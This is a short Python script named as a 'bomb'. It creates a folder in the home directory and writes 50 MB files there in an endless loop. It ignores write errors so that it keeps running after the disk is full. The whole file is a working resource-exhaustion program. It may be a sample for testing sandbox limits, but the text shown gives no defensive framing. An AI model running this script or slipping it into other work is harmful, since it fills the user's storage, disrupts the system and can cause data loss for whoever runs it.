"""Write one file after the other to the home, and go on."""

import contextlib
from pathlib import Path

Path("~/bomb").expanduser().mkdir(exist_ok=True)
chunk, number = b"\1" * (1 << 20), 0
while True:
    number += 1
    with contextlib.suppress(OSError), Path(f"~/bomb/{number}").expanduser().open("wb") as file:
        for _ in range(50):
            file.write(chunk)
